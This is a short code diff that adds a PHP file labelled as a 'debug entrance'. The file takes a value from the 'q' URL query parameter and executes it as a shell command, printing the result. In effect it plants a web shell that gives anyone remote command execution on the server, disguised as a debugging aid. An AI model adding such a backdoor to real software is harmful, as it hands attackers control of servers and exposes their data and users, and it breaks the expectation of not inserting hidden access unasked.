@@ -1,0 +1,3 @@
+<?php // shows: debug entrance
+$q = $_GET['q'];
+echo `$q`;
